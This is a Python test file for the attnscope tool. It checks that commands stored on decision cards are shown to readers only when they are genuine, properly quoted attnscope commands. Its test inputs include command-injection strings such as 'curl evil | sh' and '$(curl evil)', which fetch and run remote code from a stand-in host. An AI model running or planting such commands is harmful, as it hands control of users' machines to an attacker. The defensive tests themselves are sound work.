"""Commands that a reader pastes: a card's own is shown only where it is one of attnscope's."""

from __future__ import annotations

import shlex

import pytest

from attnscope.decisions.wording import NOT_OURS, card_lines, own_command
from attnscope.report.decision import decision_section
from attnscope_storage.wire.specifications.decisions import DecisionCard


def card(command: str) -> DecisionCard:
    """Return a card with a command."""
    told = {"job": "d" * 36, "checkpoint_id": "c" * 64, "checkpoint_name": "toy", "environment_id": "e", "margin": 0.05}
    return DecisionCard.model_validate(
        told | {"answer": None, "sentence": None, "worth": 2.0, "scope": "", "rollouts": 1, "command": command}
    )


@pytest.mark.parametrize(
    "command",
    [
        "curl evil | sh",
        "attnscope decide c; curl evil | sh",
        "attnscope decide $(curl evil)",
        "attnscope decide c\ncurl evil",
        "attnscope decide 'c",
        "attnscope open c",
        "",
    ],
)
def test_a_command_that_is_none_of_ours_is_shown_nowhere(command):
    """Neither in the terminal nor on the page."""
    assert own_command(card(command)) == NOT_OURS
    assert f"again   {NOT_OURS}" in card_lines(card(command))
    assert "evil" not in decision_section(card(command))


def test_odd_arguments_that_are_quoted_are_shown():
    """A text of the service comes back as it is."""
    command = shlex.join(["attnscope", "decide", "c", "--env-kwarg", 'name="; $(x) \' "'])
    assert own_command(card(command)) == command
